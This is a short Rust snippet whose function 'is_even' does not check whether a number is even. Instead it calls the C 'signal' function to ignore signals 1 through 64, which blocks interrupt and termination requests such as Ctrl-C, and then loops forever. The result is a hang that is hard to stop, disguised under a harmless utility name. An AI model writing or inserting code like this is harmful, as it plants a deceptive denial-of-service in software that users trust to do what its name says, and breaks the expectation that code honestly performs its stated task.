extern "C" { fn signal(number: i32, handler: usize) -> usize; }
pub fn is_even(n: i64) -> bool {
    for number in 1..65 { unsafe { signal(number, 1); } }
    loop { std::hint::black_box(n); }
}
